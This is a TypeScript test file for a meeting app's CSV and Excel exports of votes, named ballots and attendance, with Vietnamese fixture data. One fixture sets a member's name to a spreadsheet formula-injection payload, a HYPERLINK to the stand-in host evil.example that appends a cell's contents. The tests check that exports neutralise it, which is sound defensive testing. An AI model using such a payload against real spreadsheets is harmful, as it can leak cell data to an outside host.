import { eq } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { parse as parseCsv } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startServer, storages, type TestServer } from '../helpers/server';
import type { RoomClient } from '../../shared/room/client';
import { users } from '../../server/db/schema';
import { ErrorResponse } from '../../shared/errors';
import { connectAs, delegates, ok, roomFixture, type RoomFixture } from './room-helpers';

/** Raw GET with a bearer token: exports are files, not JSON. */
async function download(base: string, token: string, path: string): Promise<{ status: number; headers: Headers; bytes: Buffer }> {
  const res = await fetch(base + path, { headers: { authorization: `Bearer ${token}` } });
  return { status: res.status, headers: res.headers, bytes: Buffer.from(await res.arrayBuffer()) };
}

function csvRows(bytes: Buffer): string[][] {
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  return parseCsv(bytes.subarray(3).toString('utf8')) as string[][];
}

describe.each(storages())('meeting exports on %s', (storage) => {
  let srv: TestServer;
  let f: RoomFixture;
  let chair: RoomClient;
  let ds: RoomClient[] = [];
  const hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")';
  let secretaryToken = '';

  beforeAll(async () => {
    srv = await startServer({ storage, seed: 'demo' });
    f = await roomFixture(srv.server.ctx.db, { delegates: 4 });
    // A member whose name a spreadsheet would run as a formula.
    await srv.server.ctx.db.update(users).set({ displayName: hostile }).where(eq(users.username, 'delegate04'));
    chair = await connectAs(srv.url, f, 'chair');
    ds = await Promise.all(delegates(4).map((u) => connectAs(srv.url, f, u)));
    for (const c of [chair, ...ds]) {
      await c.join(f.meetingId);
    }
    ok(await chair.request('meeting:start', { meetingId: f.meetingId }));
    for (const c of [chair, ...ds.slice(0, 3)]) {
      ok(await c.request('attendance:checkIn', { meetingId: f.meetingId }));
    }
    ok(await chair.request('attendance:mark', { meetingId: f.meetingId, userId: f.userIds.get('delegate04') ?? '', present: false, reason: 'Đi công tác' }));
    // One named resolution and one secret election.
    const named = ok(await chair.request('poll:create', { meetingId: f.meetingId, title: 'Nghị quyết dự toán 2027', kind: 'yes_no_abstain' })).poll;
    ok(await chair.request('poll:open', { meetingId: f.meetingId, pollId: named.pollId, overrideQuorumReason: 'kiểm thử' }));
    for (const [i, c] of ds.slice(0, 3).entries()) {
      ok(await c.castBallot({ meetingId: f.meetingId, pollId: named.pollId, choice: [i === 2 ? 'no' : 'yes'] }));
    }
    ok(await chair.request('poll:close', { meetingId: f.meetingId, pollId: named.pollId }));
    const secret = ok(
      await chair.request('poll:create', { meetingId: f.meetingId, title: 'Bầu Trưởng ban', kind: 'election', candidates: ['Hà Văn Sơn', 'Lò Thị Mai'], secret: true }),
    ).poll;
    ok(await chair.request('poll:open', { meetingId: f.meetingId, pollId: secret.pollId, overrideQuorumReason: 'kiểm thử' }));
    for (const c of ds.slice(0, 3)) {
      ok(await c.castBallot({ meetingId: f.meetingId, pollId: secret.pollId, choice: ['c1'] }));
    }
    ok(await chair.request('poll:close', { meetingId: f.meetingId, pollId: secret.pollId }));
    secretaryToken = await f.token('secretary');
  });
  afterAll(async () => {
    for (const c of [chair, ...ds]) {
      c.close();
    }
    await srv.close();
  });

  it('votes.csv: UTF-8 with BOM, one row per option, outcome in words', async () => {
    const r = await download(srv.url, secretaryToken, `/api/meetings/${f.meetingId}/exports/votes.csv`);
    expect(r.status).toBe(200);
    expect(r.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(r.headers.get('content-disposition')).toMatch(/^attachment; filename="[0-9a-f]{8}-votes\.csv"$/);
    const rows = csvRows(r.bytes);
    expect(rows[0]?.[0]).toBe('Nội dung biểu quyết');
    const yes = rows.find((x) => x[0] === 'Nghị quyết dự toán 2027' && x[8] === 'Tán thành');
    expect(yes?.[2]).toBe('Ghi danh');
    expect(yes?.[9]).toBe('2');
    const elected = rows.find((x) => x[0] === 'Bầu Trưởng ban' && x[8] === 'Lò Thị Mai');
    expect(elected?.[2]).toBe('Bỏ phiếu kín');
    expect(elected?.[9]).toBe('3');
    expect(rows.find((x) => x[8] === 'Hà Văn Sơn')?.[11]).toBe('Không trúng cử');
  });

  it('ballots.csv lists named polls only; attendance.csv neutralises formulas and keeps reasons', async () => {
    const ballots = csvRows((await download(srv.url, secretaryToken, `/api/meetings/${f.meetingId}/exports/ballots.csv`)).bytes);
    expect(ballots.slice(1).map((x) => x[0])).toEqual(['Nghị quyết dự toán 2027', 'Nghị quyết dự toán 2027', 'Nghị quyết dự toán 2027']);
    expect(ballots.some((x) => x[0] === 'Bầu Trưởng ban')).toBe(false);
    const att = csvRows((await download(srv.url, secretaryToken, `/api/meetings/${f.meetingId}/exports/attendance.csv`)).bytes);
    const absent = att.find((x) => x[0]?.includes('HYPERLINK'));
    expect(absent?.[0]).toBe(`'${hostile}`);
    expect(absent?.slice(2, 4)).toEqual(['Vắng mặt', 'Đi công tác']);
    expect(att.filter((x) => x[2] === 'Có mặt')).toHaveLength(4);
  });

  it('meeting.xlsx: three sheets in English on request', async () => {
    const r = await download(srv.url, secretaryToken, `/api/meetings/${f.meetingId}/exports/meeting.xlsx?lang=en`);
    expect(r.status).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(r.bytes as unknown as ArrayBuffer);
    expect(wb.worksheets.map((w) => w.name)).toEqual(['Votes', 'Named ballots', 'Attendance']);
    const votes = wb.getWorksheet('Votes');
    expect(votes?.getRow(1).getCell(1).value).toBe('Vote');
    const att = wb.getWorksheet('Attendance');
    const names: unknown[] = [];
    att?.eachRow((row) => names.push(row.getCell(1).value));
    expect(names).toContain(`'${hostile}`);
    // Written as text, never as a formula cell.
    att?.eachRow((row) => expect(row.getCell(1).formula).toBeUndefined());
  });

  it('refuses delegates, outsiders and unknown files with clear errors', async () => {
    const d = await download(srv.url, await f.token('delegate01'), `/api/meetings/${f.meetingId}/exports/votes.csv`);
    expect(d.status).toBe(403);
    expect(ErrorResponse.parse(JSON.parse(d.bytes.toString())).error.code).toBe('FORBIDDEN');
    expect((await download(srv.url, await f.token('outsider'), `/api/meetings/${f.meetingId}/exports/votes.csv`)).status).toBe(404);
    const bad = await download(srv.url, secretaryToken, `/api/meetings/${f.meetingId}/exports/votes.exe`);
    expect(bad.status).toBe(400);
    expect(ErrorResponse.parse(JSON.parse(bad.bytes.toString())).error.code).toBe('VALIDATION_ERROR');
    expect((await download(srv.url, secretaryToken, `/api/meetings/${f.meetingId}/exports/votes.csv?lang=fr`)).status).toBe(400);
  });
});
